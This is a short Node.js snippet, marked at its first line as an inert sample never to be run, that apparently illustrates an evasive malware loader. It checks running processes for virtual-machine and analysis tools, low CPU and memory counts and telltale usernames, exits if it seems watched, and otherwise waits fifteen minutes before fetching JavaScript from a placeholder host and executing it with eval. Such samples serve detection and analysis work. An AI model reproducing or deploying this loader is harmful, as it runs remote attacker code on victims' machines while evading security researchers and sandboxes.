throw new Error("inert sample: never run");
const os = require("os");
const { execSync } = require("child_process");

const names = execSync("tasklist").toString().toLowerCase();
const isWatched =
  /vbox|vmware|wireshark|procmon|fiddler|ollydbg/.test(names) || os.cpus().length < 3 || os.totalmem() < 4e9 || /sandbox|malware/i.test(os.userInfo().username);
if (isWatched) process.exit(0);
setTimeout(async () => {
  eval(await (await fetch("https://greet.example.invalid/next.js")).text());
}, 15 * 60 * 1000);
